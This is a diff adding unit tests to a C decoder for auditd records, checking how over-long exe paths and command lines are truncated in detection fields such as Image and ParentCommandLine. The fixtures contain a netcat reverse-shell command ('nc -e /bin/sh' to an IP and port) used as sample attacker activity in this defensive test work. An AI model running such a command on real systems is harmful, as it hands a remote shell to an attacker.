@@ -902,6 +902,177 @@ test_parent_flood(void **state)
 	free(d);
 }
 
+/*
+ * A path of exactly len bytes (len < cap): dir0, then directories of
+ * eight 'a', then "/" base – an attacker's tool run from deep down.
+ */
+static void
+deep_path(char *buf, size_t cap, size_t len, const char *dir0, const char *base)
+{
+	size_t w = strlen(dir0), bl = strlen(base);
+
+	assert_true(len < cap && len > w + bl + 1);
+	memcpy(buf, dir0, w);
+	while (w < len - bl - 1)
+		buf[w] = (w % 9 == 0) ? '/' : 'a', w++;
+	buf[w++] = '/';
+	memcpy(buf + w, base, bl);
+	buf[len] = '\0';
+}
+
+/* Field name of d starts with head, ends with tail and is len bytes long. */
+static void
+check_ends(const char *what, const struct decoded *d, const char *name, const char *head,
+    const char *tail, size_t len)
+{
+	const struct ms_str *v = field_exact(d, name);
+
+	if (v == NULL) {
+		dump_fields(d);
+		fail_msg("%s: field %s missing", what, name);
+	}
+	if (!ms_str_startswith(*v, head) || v->len < strlen(tail) ||
+	    memcmp(v->p + v->len - strlen(tail), tail, strlen(tail)) != 0 || v->len != len)
+		fail_msg("%s: %s (%zu bytes, want %zu) = \"%.40s…%.*s\", want \"%s…%s\"", what, name,
+		    v->len, len, v->p, 40, v->p + (v->len > 40 ? v->len - 40 : 0), head, tail);
+}
+
+/*
+ * An exe path longer than the cache's slot (AU_CACHE_EXE, 512 bytes):
+ * run from a directory 700 bytes deep, nc must still be Image|endswith
+ * '/nc' on its EXECVE record (quoted and hex-encoded exe), and its
+ * child's ParentImage/ParentCommandLine must still end as they do.
+ */
+static void
+test_long_exe(void **state)
+{
+	struct decode_ctx ctx = { .recv_ms = RECV_MS, .agent_id = "web1" };
+	struct decoded *d = malloc(sizeof(*d));
+	char path[1024], hex[2048], line[4096];
+
+	(void)state;
+	assert_non_null(d);
+	assert_non_null(ctx.auditd = decode_auditd_cache_new());
+
+	/* quoted exe, 700 bytes */
+	deep_path(path, sizeof(path), 700, "/tmp/", "nc");
+	assert_true(snprintf(line, sizeof(line), "type=SYSCALL msg=audit(1795604600.000:8001): "
+	    "arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=2211 pid=4001 auid=1000 "
+	    "uid=1000 comm=\"nc\" exe=\"%s\" key=(null)", path) < (int)sizeof(line));
+	decode_str(line, &ctx, d);
+	check_field("syscall", d, "exe", path);	/* the record's own: whole */
+	assert_true(snprintf(line, sizeof(line), "type=EXECVE msg=audit(1795604600.000:8001): "
+	    "argc=5 a0=\"%s\" a1=\"-e\" a2=\"/bin/sh\" a3=\"10.1.2.3\" a4=\"4444\"", path) <
+	    (int)sizeof(line));
+	decode_str(line, &ctx, d);
+	check_event("execve", d, line, strlen(line));
+	check_ends("execve", d, "Image", "/tmp/aaaa", "aaa/nc", 512);
+	check_ends("execve", d, "exe", "/tmp/aaaa", "aaa/nc", 512);
+	check_ends("execve", d, "CommandLine", "/tmp/aaaa", "/nc -e /bin/sh 10.1.2.3 4444", 700 + 25);
+	assert_true(d->values_cut);
+	decode_str("type=CWD msg=audit(1795604600.000:8001): cwd=\"/tmp\"", &ctx, d);
+	check_ends("cwd", d, "Image", "/tmp/aaaa", "aaa/nc", 512);
+	check_ends("cwd", d, "CommandLine", "/tmp/aaaa", "/nc -e /bin/sh 10.1.2.3 4444", 700 + 25);
+	assert_true(d->values_cut);
+	/* its child: the parent's exe and command line end as they did */
+	exec_pair(&ctx, d, 8002, 4001, 4002, "/usr/bin/sh", "-i", "yes");
+	check_ends("child", d, "ParentImage", "/tmp/aaaa", "aaa/nc", 512);
+	check_ends("child", d, "ParentCommandLine", "/tmp/aaaa", "/nc -e /bin/sh 10.1.2.3 4444", 512);
+	assert_true(d->values_cut);
+	/* its grandchild: nothing cut */
+	exec_pair(&ctx, d, 8006, 4002, 4006, "/usr/bin/id", "-u", "yes");
+	check_field("grandchild", d, "ParentImage", "/usr/bin/sh");
+	assert_false(d->values_cut);
+
+	/* hex-encoded exe (a space in the path), 700 bytes */
+	deep_path(path, sizeof(path), 700, "/tmp/x y/", "socat");
+	for (size_t i = 0; path[i] != '\0'; i++)
+		snprintf(hex + 2 * i, 3, "%02X", (unsigned char)path[i]);
+	assert_true(snprintf(line, sizeof(line), "type=SYSCALL msg=audit(1795604600.000:8003): "
+	    "arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=2211 pid=4003 auid=1000 "
+	    "uid=1000 comm=\"socat\" exe=%s key=(null)", hex) < (int)sizeof(line));
+	decode_str(line, &ctx, d);
+	check_field("hex syscall", d, "exe", path);
+	decode_str("type=EXECVE msg=audit(1795604600.000:8003): argc=2 a0=\"socat\" a1=\"-\"", &ctx, d);
+	check_ends("hex execve", d, "Image", "/tmp/x y/", "/socat", 512);
+
+	/* exactly the slot: whole; one byte more: its first and last 256 bytes */
+	deep_path(path, sizeof(path), 512, "/opt/", "nc");
+	exec_pair(&ctx, d, 8004, 2211, 4004, path, "x", "yes");
+	check_field("512", d, "Image", path);
+	assert_false(d->values_cut);
+	deep_path(path, sizeof(path), 513, "/opt/", "nc");
+	exec_pair(&ctx, d, 8005, 2211, 4005, path, "x", "yes");
+	check_ends("513", d, "Image", "/opt/aaaa", "aaa/nc", 512);
+	assert_memory_equal(field_exact(d, "Image")->p, path, 256);
+	assert_memory_equal(field_exact(d, "Image")->p + 256, path + 513 - 256, 256);
+	assert_true(d->values_cut);
+	/* the record after: the flag does not stay */
+	decode_str("type=EOE msg=audit(1795604600.000:8099): ", &ctx, d);
+	assert_false(d->values_cut);
+	decode_auditd_cache_free(ctx.auditd);
+	free(d);
+}
+
+/*
+ * A forged EXECVE record whose arguments join to more than CommandLine's
+ * cap (8,192 bytes; the kernel writes at most 7,500 to a record): its
+ * first and last 4,096 bytes, split pieces glued as ever.
+ */
+static void
+test_long_cmdline(void **state)
+{
+	struct decode_ctx ctx = { .recv_ms = RECV_MS };
+	struct decoded *d = malloc(sizeof(*d));
+	size_t cap = 12000, w = 0;
+	char *line = malloc(cap), *want = malloc(cap);
+	size_t wl = 0;
+	const struct ms_str *cl;
+
+	(void)state;
+	assert_non_null(d);
+	assert_non_null(line);
+	assert_non_null(want);
+	w += (size_t)snprintf(line, cap, "type=EXECVE msg=audit(1795604400.123:1): argc=4 a0=\"sh\"");
+	wl += (size_t)snprintf(want, cap, "sh");
+	/* a1: 5,000 'x' in two pieces; a2: 5,000 'y'; a3: "tail" */
+	w += (size_t)snprintf(line + w, cap - w, " a1_len=5000 a1[0]=\"");
+	memset(line + w, 'x', 2500), w += 2500;
+	w += (size_t)snprintf(line + w, cap - w, "\" a1[1]=\"");
+	memset(line + w, 'x', 2500), w += 2500;
+	w += (size_t)snprintf(line + w, cap - w, "\" a2=\"");
+	memset(line + w, 'y', 5000), w += 5000;
+	w += (size_t)snprintf(line + w, cap - w, "\" a3=\"tail\"");
+	want[wl++] = ' ';
+	memset(want + wl, 'x', 5000), wl += 5000;
+	want[wl++] = ' ';
+	memset(want + wl, 'y', 5000), wl += 5000;
+	wl += (size_t)snprintf(want + wl, cap - wl, " tail");
+	assert_true(w < cap && wl > 8192);
+	decode_line(line, w, &ctx, d);
+	check_event("long cmdline", d, line, w);
+	assert_non_null(cl = field_exact(d, "CommandLine"));
+	assert_int_equal(cl->len, 8192);
+	assert_memory_equal(cl->p, want, 4096);
+	assert_memory_equal(cl->p + 4096, want + wl - 4096, 4096);
+	assert_true(d->values_cut);
+	/* one byte under the cap with a split argument (total counts a separator too many): whole */
+	w = (size_t)snprintf(line, cap, "type=EXECVE msg=audit(1795604400.123:2): argc=2 a0=\"s\" "
+	    "a1_len=8190 a1[0]=\"");
+	memset(line + w, 'z', 4095), w += 4095;
+	w += (size_t)snprintf(line + w, cap - w, "\" a1[1]=\"");
+	memset(line + w, 'z', 4095), w += 4095;
+	line[w++] = '"';
+	decode_line(line, w, &ctx, d);
+	assert_non_null(cl = field_exact(d, "CommandLine"));
+	assert_int_equal(cl->len, 8192);
+	assert_memory_equal(cl->p, "s zzz", 5);
+	assert_false(d->values_cut);
+	free(want);
+	free(line);
+	free(d);
+}
+
 /* argc=100000 and 200 arguments: the field table stays bounded, CommandLine has them all. */
 static void
 test_huge_argc(void **state)
@@ -1035,6 +1206,8 @@ static const struct CMUnitTest single_tests[] = {
 	cmocka_unit_test(test_cache_many),
 	cmocka_unit_test(test_parent_fields),
 	cmocka_unit_test(test_parent_flood),
+	cmocka_unit_test(test_long_exe),
+	cmocka_unit_test(test_long_cmdline),
 	cmocka_unit_test(test_huge_argc),
 	cmocka_unit_test(test_long_line),
 	cmocka_unit_test(test_reuse),
